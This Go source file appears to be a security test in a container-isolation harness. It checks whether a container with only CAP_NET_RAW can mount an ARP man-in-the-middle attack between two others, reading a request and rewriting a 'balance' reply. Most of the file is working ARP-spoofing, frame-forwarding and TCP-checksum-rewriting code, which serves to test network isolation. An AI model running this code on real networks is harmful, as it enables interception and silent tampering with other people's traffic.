package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os/exec"
	"sync"
	"time"

	"golang.org/x/sys/unix"

	"mydocker.example/shared/proof"
)

// arpMITM: mallory stands between alice and bob. She reads what alice asks, and alice reads
// what mallory wants her to.
var arpMITM = proof.Proof{
	ID:      "arp-mitm",
	Timeout: 60 * time.Second,
	Attack: &proof.Attack{
		Prepare: prepareBank,
		With: func(*exec.Cmd) error {
			return bank.host.do(func() error { return guard("to-mallory", seats["mallory"]) })
		},
		Run:   standBetween,
		Errno: unix.EAGAIN, // mallory listens, and is sent nothing
	},
}

const (
	question = "balance? " + secret + "\n"
	truth    = "balance=100\n"
	lie      = "balance=999\n" // as long as the truth: no sequence number has to change
)

var bank *machine // for what is set in the same process after Prepare

// prepareBank has bob serve and alice ask, again and again.
func prepareBank(r *proof.Report) (cleanup func(), err error) {
	m, err := newMachine("alice", "bob", "mallory")
	if err != nil {
		return nil, err
	}
	bank = m
	r.Pass("mallory", m.containers["mallory"].path())
	var service net.Listener
	err = m.in("bob", func() error {
		service, err = net.Listen("tcp4", ":80")
		return err
	})
	if err != nil {
		return m.close, err
	}
	go func() {
		for {
			conn, err := service.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				conn.SetDeadline(time.Now().Add(2 * time.Second))
				got := make([]byte, len(question))
				if n, err := conn.Read(got); err == nil && string(got[:n]) == question {
					fmt.Fprint(conn, truth)
				}
			}()
		}
	}()

	var mu sync.Mutex
	read := map[string]bool{} // what alice has been told so far
	end, ended := make(chan struct{}), make(chan struct{})
	go m.in("alice", func() error {
		defer close(ended)
		for {
			if word, err := askBank(); err == nil {
				mu.Lock()
				read[word] = true
				mu.Unlock()
			}
			select {
			case <-end:
				return nil
			case <-time.After(50 * time.Millisecond):
			}
		}
	})
	return func() {
		close(end)
		<-ended
		service.Close()
		m.close()
		mu.Lock()
		defer mu.Unlock()
		if read[lie] {
			r.Saw("", "alice: has been told", lie[:len(lie)-1])
		} else if read[truth] {
			r.Saw("", "alice: has been told nothing but", truth[:len(truth)-1])
		}
	}, nil
}

func askBank() (string, error) {
	conn, err := net.DialTimeout("tcp4", seats["bob"].addr+":80", time.Second)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := fmt.Fprint(conn, question); err != nil {
		return "", err
	}
	word := make([]byte, len(truth))
	n, err := conn.Read(word)
	return string(word[:n]), err
}

// standBetween is mallory: in her container, with CAP_NET_RAW and nothing else.
func standBetween(a *proof.Attacker) error {
	if err := enterPath(a.Get("mallory")); err != nil {
		return err
	}
	fd, err := listenTo("eth0", unix.ETH_P_IP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	eth0, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	send := func(frame []byte) error {
		return unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: eth0.Index, Halen: 6})
	}
	a.Saw("mallory: tells alice that bob is at, and bob that alice is at", seats["mallory"].mac.String())
	var asked, changed bool
	frame := make([]byte, 1<<16)
	for deadline := time.Now().Add(4 * time.Second); ; {
		// Again and again: the kernel believes no second answer within a second of the first
		// (arp(7), locktime), and asks anew from time to time.
		if err := errors.Join(send(claim("alice", "bob")), send(claim("bob", "alice"))); err != nil {
			return fmt.Errorf("sendto(AF_PACKET): %w", err)
		}
		n, _, err := unix.Recvfrom(fd, frame, 0)
		if err != nil && !errors.Is(err, unix.EAGAIN) && !errors.Is(err, unix.EINTR) {
			return fmt.Errorf("recvfrom(AF_PACKET): %w", err)
		}
		if err != nil && time.Now().After(deadline) {
			return fmt.Errorf("recvfrom(AF_PACKET): %w", err)
		}
		if err != nil {
			continue
		}
		to, ok := addressee(frame[:n])
		if !ok {
			continue
		}
		if !asked && bytes.Contains(frame[:n], []byte(question)) {
			asked = true
			a.Saw("mallory: reads on its way to bob", question[:len(question)-1])
		}
		if bytes.Contains(frame[:n], []byte(truth)) {
			changed = true
			a.Saw("mallory: writes on its way to alice, instead of "+truth[:len(truth)-1], lie[:len(lie)-1])
		}
		if err := send(passOn(frame[:n], to)); err != nil {
			return fmt.Errorf("sendto(AF_PACKET): %w", err)
		}
		if asked && changed {
			return linger(fd, send)
		}
	}
}

// linger carries the conversation to its end, so that alice gets what was written for her.
func linger(fd int, send func([]byte) error) error {
	frame := make([]byte, 1<<16)
	for deadline := time.Now().Add(500 * time.Millisecond); time.Now().Before(deadline); {
		n, _, err := unix.Recvfrom(fd, frame, 0)
		if err != nil {
			continue
		}
		if to, ok := addressee(frame[:n]); ok {
			send(passOn(frame[:n], to))
		}
	}
	return nil
}

// claim is an ARP answer to a question that nobody has asked: the IP address of one is at
// mallory's hardware address. ARP asks no proof of anybody.
func claim(to, of string) []byte {
	return arpAnswer(seats["mallory"].mac, seats[of].addr, seats[to].mac, seats[to].addr)
}

// arpAnswer says to somebody that addr is at mac (RFC 826).
func arpAnswer(mac net.HardwareAddr, addr string, toMAC net.HardwareAddr, toAddr string) []byte {
	var f []byte
	f = append(append(append(f, toMAC...), mac...), 0x08, 0x06)
	f = append(f, 0, 1, 8, 0, 6, 4, 0, 2) // Ethernet, IPv4, their lengths, an answer
	f = append(append(f, mac...), net.ParseIP(addr).To4()...)
	return append(append(f, toMAC...), net.ParseIP(toAddr).To4()...)
}

// addressee is for whom a frame is that came to mallory: it has her hardware address, and
// another's IP address.
func addressee(frame []byte) (seat, bool) {
	if len(frame) < 14+20 || !bytes.Equal(frame[:6], seats["mallory"].mac) {
		return seat{}, false
	}
	to := net.IP(frame[14+16 : 14+20]).String()
	for _, name := range []string{"alice", "bob"} {
		if seats[name].addr == to {
			return seats[name], true
		}
	}
	return seat{}, false
}

// passOn gives a frame the right hardware addresses, and bob's answer another content.
func passOn(frame []byte, to seat) []byte {
	copy(frame, to.mac)
	copy(frame[6:], seats["mallory"].mac)
	if i := bytes.Index(frame, []byte(truth)); i >= 0 {
		copy(frame[i:], lie)
	}
	sign(frame[14:])
	return frame
}

// sign computes the checksum of TCP anew: over a pseudo-header of addresses, protocol and
// length, and the segment (RFC 9293). It protects from noise on the line, not from mallory.
func sign(ip []byte) {
	header, length := int(ip[0]&0xf)*4, int(binary.BigEndian.Uint16(ip[2:]))
	if ip[9] != unix.IPPROTO_TCP || length > len(ip) || length < header+20 {
		return
	}
	segment := ip[header:length]
	segment[16], segment[17] = 0, 0
	sum := uint32(unix.IPPROTO_TCP) + uint32(len(segment))
	for i := 12; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
	}
	binary.BigEndian.PutUint16(segment[16:], checksum(segment, sum))
}
